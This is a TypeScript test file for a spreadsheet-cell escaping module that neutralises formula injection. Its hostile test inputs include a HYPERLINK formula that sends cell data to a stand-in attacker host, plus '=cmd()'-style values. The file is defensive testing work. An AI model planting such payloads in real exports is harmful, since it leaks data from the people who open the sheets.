import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { sheetCellRead, sheetNumber, sheetRows, sheetText, startsFormula } from "./cells";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A2,"x")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "'=1",
];

describe("spreadsheet cells", () => {
  it("prefixes every text a spreadsheet would run as a formula", () => {
    for (const value of HOSTILE) {
      const written = sheetText(value);
      expect(startsFormula(written), JSON.stringify(value)).toBe(false);
      expect(written.startsWith("'")).toBe(true);
    }
    expect(sheetText("Mehta Electricals")).toBe("Mehta Electricals");
    expect(sheetText("")).toBe("");
    expect(sheetText("'quoted")).toBe("'quoted");
  });

  it("keeps plain numbers of number columns and neutralises anything else there", () => {
    expect(sheetNumber("-1250.50")).toBe("-1250.50");
    expect(sheetNumber(18)).toBe("18");
    expect(sheetNumber(-3)).toBe("-3");
    expect(sheetNumber("-2+3")).toBe("'-2+3");
    expect(sheetNumber("=1+1")).toBe("'=1+1");
  });

  it("reads back exactly what was written, for any text", () => {
    for (const value of HOSTILE) expect(sheetCellRead(sheetText(value))).toBe(value);
    fc.assert(
      fc.property(fc.string(), (value) => sheetCellRead(sheetText(value)) === value),
      { numRuns: 2000 },
    );
    fc.assert(
      fc.property(
        fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "a", "1"),
        fc.array(fc.constantFrom("'", "=", "-", "a"), { maxLength: 5 }),
        (first, rest) => {
          const value = first + rest.join("");
          const written = sheetText(value);
          return sheetCellRead(written) === value && !startsFormula(written);
        },
      ),
    );
  });

  it("writes whole sheets by column", () => {
    const rows = sheetRows(
      ["Receiver Name", "Invoice Value"],
      [
        ["=cmd()", "-120.00"],
        ["@SUM(1)", 5],
      ],
      new Set(["Invoice Value"]),
    );
    expect(rows).toEqual([
      ["Receiver Name", "Invoice Value"],
      ["'=cmd()", "-120.00"],
      ["'@SUM(1)", "5"],
    ]);
  });
});
